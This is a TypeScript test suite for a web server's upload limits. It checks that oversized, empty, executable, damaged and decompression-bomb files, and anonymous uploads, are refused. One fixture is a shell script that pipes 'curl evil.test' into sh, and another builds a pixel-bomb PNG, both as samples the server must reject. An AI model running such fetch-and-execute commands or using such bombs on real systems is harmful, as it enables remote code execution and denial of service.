/**
 * Uploads on local disk, limits: too large, empty, not multipart, programs, damaged images and
 * decompression bombs are refused without leaving anything behind, and so is an anonymous upload.
 */
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import type { TestUser } from './helpers/factories.js';
import type { TestServer } from './helpers/server.js';
import { MAX_BYTES, useLocalUploads, png, blankPng, postForm, fileForm, storedFiles } from './helpers/uploads.js';

describe('uploads on local disk', () => {
  const t = useLocalUploads();
  let s: TestServer, dataDir: string, alice: TestUser;
  beforeAll(() => void ({ s, dataDir, alice } = t));
  const { upload, expectRefused } = t;

  describe('limits', () => {
    it('a file of exactly UPLOAD_MAX_BYTES is stored', async () => {
      const bytes = Buffer.concat([Buffer.alloc(1), randomBytes(MAX_BYTES - 1)]);
      const res = await upload(alice, bytes, 'blob.bin');
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      expect(res.body).toMatchObject({ content_type: 'application/octet-stream', size: MAX_BYTES });
    });

    it('a file over UPLOAD_MAX_BYTES is refused with 413, and nothing is kept', async () => {
      const message = await expectRefused(
        fileForm(Buffer.concat([Buffer.alloc(1), randomBytes(MAX_BYTES)]), 'big.bin'),
        413,
        'payload_too_large',
      );
      expect(message).toMatch(/at most 65\.5 KB\b/);
      const huge = await expectRefused(fileForm(Buffer.alloc(MAX_BYTES * 8), 'huge.bin'), 413, 'payload_too_large');
      expect(huge).toMatch(/at most 65\.5 KB\b/);
    });

    it.each([
      ['a Windows program', Buffer.concat([Buffer.from('MZ'), randomBytes(500)]), 'holiday.jpg', 'image/jpeg'],
      ['an ELF program', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(500)]), 'a.txt', ''],
      ['a shell script', Buffer.from('#!/bin/sh\ncurl evil.test | sh\n'), 'notes.txt', 'text/plain'],
    ])('%s is refused with 415, whatever it is called', async (_what, bytes, name, type) => {
      const message = await expectRefused(fileForm(bytes, name, type), 415, 'unsupported_media_type');
      expect(message).toMatch(/cannot be shared/);
    });

    it('an empty file is refused with 400', async () => {
      await expectRefused(fileForm(Buffer.alloc(0), 'empty.txt', 'text/plain'), 400, 'validation_failed');
    });

    it('a JSON body is refused with 415: uploads are multipart', async () => {
      await expectRefused(JSON.stringify({ file: 'aGVsbG8=' }), 415, 'unsupported_media_type', 'application/json');
    });

    it('two files, a part with another name, or no file at all are refused with 400', async () => {
      const two = new FormData();
      two.append('file', new Blob(['first file\n']), 'a.txt');
      two.append('file', new Blob(['second file\n']), 'b.txt');
      expect(await expectRefused(two, 400, 'validation_failed')).toMatch(/one file/);

      const renamed = fileForm(Buffer.from('hello\n'), 'a.txt', 'text/plain', 'upload');
      expect(await expectRefused(renamed, 400, 'validation_failed')).toMatch(/part named "file"/);

      const fieldOnly = new FormData();
      fieldOnly.append('file', 'just a string field');
      expect(await expectRefused(fieldOnly, 400, 'validation_failed')).toMatch(/part named "file"/);
    });

    it('a damaged image (right magic, garbage after) is refused with 415', async () => {
      const good = await png(64, 64);
      const damaged = Buffer.concat([good.subarray(0, 8), randomBytes(400)]);
      await expectRefused(fileForm(damaged, 'broken.png', 'image/png'), 415, 'unsupported_media_type');
      // Cut short: a valid header and no pixels.
      await expectRefused(fileForm(good.subarray(0, 60), 'short.png'), 415, 'unsupported_media_type');
    });

    it('a decompression bomb is refused with 415 before it is decoded, and the server carries on', async () => {
      const bomb = blankPng(20_000, 20_000); // 400 million pixels in a few kilobytes
      expect(bomb.length).toBeLessThan(MAX_BYTES);
      expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({ width: 20_000 });
      const rssBefore = process.memoryUsage().rss;
      const message = await expectRefused(fileForm(bomb, 'bomb.png', 'image/png'), 415, 'unsupported_media_type');
      expect(message).toMatch(/too many pixels/);
      // Decoded, it would have taken hundreds of megabytes.
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(200 * 1024 ** 2);
      const after = await upload(alice, await png(), 'fine.png');
      expect(after.status).toBe(201);
    });

    it('an anonymous upload is refused with 401 and stores nothing', async () => {
      const filesBefore = await storedFiles(dataDir);
      const res = await postForm(s.base, null, fileForm(await png(), 'a.png', 'image/png'));
      expect(res.status).toBe(401);
      expect(await storedFiles(dataDir)).toEqual(filesBefore);
    });
  });
});
